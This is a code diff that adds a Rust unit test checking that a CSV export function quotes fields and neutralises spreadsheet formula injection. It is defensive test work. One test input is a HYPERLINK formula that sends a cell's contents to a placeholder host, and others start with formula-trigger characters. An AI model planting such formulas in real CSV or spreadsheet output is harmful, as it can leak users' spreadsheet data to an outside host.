@@ -78,3 +78,21 @@ fn a_broken_export_names_the_fault() {
         "unreadable: the document must be a JSON object ({ … }), not an array ([ … ])"
     );
 }
+
+#[test]
+fn a_csv_field_that_a_spreadsheet_would_run_is_kept_as_text() {
+    use sextant_engine::save::csv_field;
+    assert_eq!(csv_field("Focus"), "Focus");
+    assert_eq!(csv_field("a, b"), "\"a, b\"");
+    assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
+    assert_eq!(
+        csv_field("=HYPERLINK(\"https://x.invalid/?\"&A3,\"go\")"),
+        "\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&A3,\"\"go\"\")\""
+    );
+    for formula in ["+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"] {
+        assert!(
+            csv_field(formula).trim_start_matches('"').starts_with('\''),
+            "{formula}"
+        );
+    }
+}
